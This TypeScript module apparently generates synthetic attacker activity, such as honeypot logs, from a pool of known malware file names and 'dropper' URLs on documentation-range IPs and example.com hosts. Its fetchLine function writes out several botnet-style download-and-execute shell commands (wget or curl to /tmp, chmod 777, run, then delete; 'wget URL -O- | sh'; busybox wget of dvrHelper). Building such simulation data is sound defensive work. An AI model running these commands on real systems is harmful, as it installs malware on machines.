import { createHash } from 'node:crypto'
import type { ShellCommand } from './commands.ts'
import { type Random, type TokenSource, WeightedIndex, zipfWeights } from './random.ts'
import { makeText, type Text } from './text.ts'

/** A file an attacker brought. */
export type Artifact = {
  /** Number in the pool, or -1 for a file that comes once. */
  readonly index: number
  readonly shasum: Text
  readonly name: Text
}

/** A place malware is fetched from: the command that does it, and what comes. */
export type Dropper = {
  readonly url: Text
  readonly command: ShellCommand
  readonly artifact: Artifact
}

const NAMES =
  'bins.sh sora.sh mozi.m x86_64 arm7 mips mpsl ppc i686 sh4 update.sh jaws.sh ohshit.sh kinsing miner.tar.gz xmrig dvrHelper tsunami.x86 redtail setup.py sshd clean.sh'.split(
    ' ',
  )

const ARTIFACTS = 2_000
const DROPPERS = 3_000
const UNIQUE_URL_SHARE = 0.06
const UNIQUE_FILE_SHARE = 0.04

/** Downloads and uploads: Zipf-shaped from a fixed pool, and a tail of files seen once. */
export class FilePool {
  readonly #artifacts: readonly Artifact[]
  readonly #artifactRanks: WeightedIndex
  readonly #droppers: readonly Dropper[]
  readonly #dropperRanks: WeightedIndex
  readonly #tokens: TokenSource
  readonly #fetched = new Uint8Array(ARTIFACTS)
  #uniqueCount = 0

  constructor(random: Random, tokens: TokenSource) {
    this.#tokens = tokens
    this.#artifacts = Array.from({ length: ARTIFACTS }, (_, index) => ({
      index,
      shasum: makeText(sha256(`artifact ${index} ${random.next()}`)),
      name: makeText(
        index < NAMES.length ? (NAMES[index] as string) : `${random.pick(NAMES)}.${index}`,
      ),
    }))
    this.#artifactRanks = new WeightedIndex(zipfWeights(ARTIFACTS, 1.1, 1))
    this.#droppers = Array.from({ length: DROPPERS }, (_, rank) => {
      const artifact = this.#artifacts[Math.floor(rank * (ARTIFACTS / DROPPERS))] as Artifact
      return dropper(host(random), `${rank}/${artifact.name.value}`, artifact, rank)
    })
    this.#dropperRanks = new WeightedIndex(zipfWeights(DROPPERS, 1.05, 2))
  }

  /** Number of files that can occur more than once. */
  get size(): number {
    return this.#artifacts.length
  }

  artifact(random: Random): Artifact {
    if (random.chance(UNIQUE_FILE_SHARE)) return this.#once().artifact
    return this.#artifacts[this.#artifactRanks.pick(random)] as Artifact // as many ranks as files
  }

  dropper(random: Random): Dropper {
    if (random.chance(UNIQUE_URL_SHARE)) {
      const { token, artifact } = this.#once()
      return dropper(host(random), `${token}.sh`, artifact, this.#uniqueCount)
    }
    return this.#droppers[this.#dropperRanks.pick(random)] as Dropper // as many ranks as droppers
  }

  /** Whether the file was asked for before; from now on it was. */
  seenBefore(artifact: Artifact): boolean {
    if (artifact.index < 0) return false
    const seen = this.#fetched[artifact.index] === 1
    this.#fetched[artifact.index] = 1
    return seen
  }

  #once(): { token: string; artifact: Artifact } {
    this.#uniqueCount += 1
    const token = this.#tokens.token(this.#uniqueCount)
    // Made unlike every other by its token; what the rest of the digits are does not matter.
    const shasum = token + token.split('').reverse().join('').padEnd(52, token)
    const unique = { unique: true }
    return {
      token,
      artifact: { index: -1, shasum: makeText(shasum, unique), name: makeText(`${token}.bin`) },
    }
  }
}

function host(random: Random): string {
  switch (random.int(5)) {
    case 0:
      return `198.51.100.${random.between(1, 254)}`
    case 1:
      return `203.0.113.${random.between(1, 254)}:${random.pick(['80', '8080', '81', '9000'])}`
    case 2:
      return `${random.pick(['cdn', 'dl', 'update', 'files', 'mirror'])}${random.int(40)}.example.${random.pick(['com', 'net', 'org'])}`
    default:
      return `203.0.113.${random.between(1, 254)}`
  }
}

function dropper(at: string, path: string, artifact: Artifact, serial: number): Dropper {
  const unique = artifact.index < 0
  const url = `http://${at}/${path}`
  const file = path.slice(path.lastIndexOf('/') + 1)
  const line = fetchLine(serial % 4, url, file)
  return {
    url: makeText(url, { unique }),
    command: { input: makeText(line, { unique }), failed: undefined },
    artifact,
  }
}

function fetchLine(kind: number, url: string, file: string): string {
  switch (kind) {
    case 0:
      return `cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget ${url}; chmod 777 ${file}; sh ${file}; rm -rf ${file}`
    case 1:
      return `wget ${url} -O- | sh`
    case 2:
      return `cd /tmp; curl -O ${url}; chmod +x ${file}; ./${file}`
    default:
      return `/bin/busybox wget ${url} -O dvrHelper; /bin/busybox chmod 777 dvrHelper; ./dvrHelper`
  }
}

function sha256(text: string): string {
  return createHash('sha256').update(text).digest('hex')
}
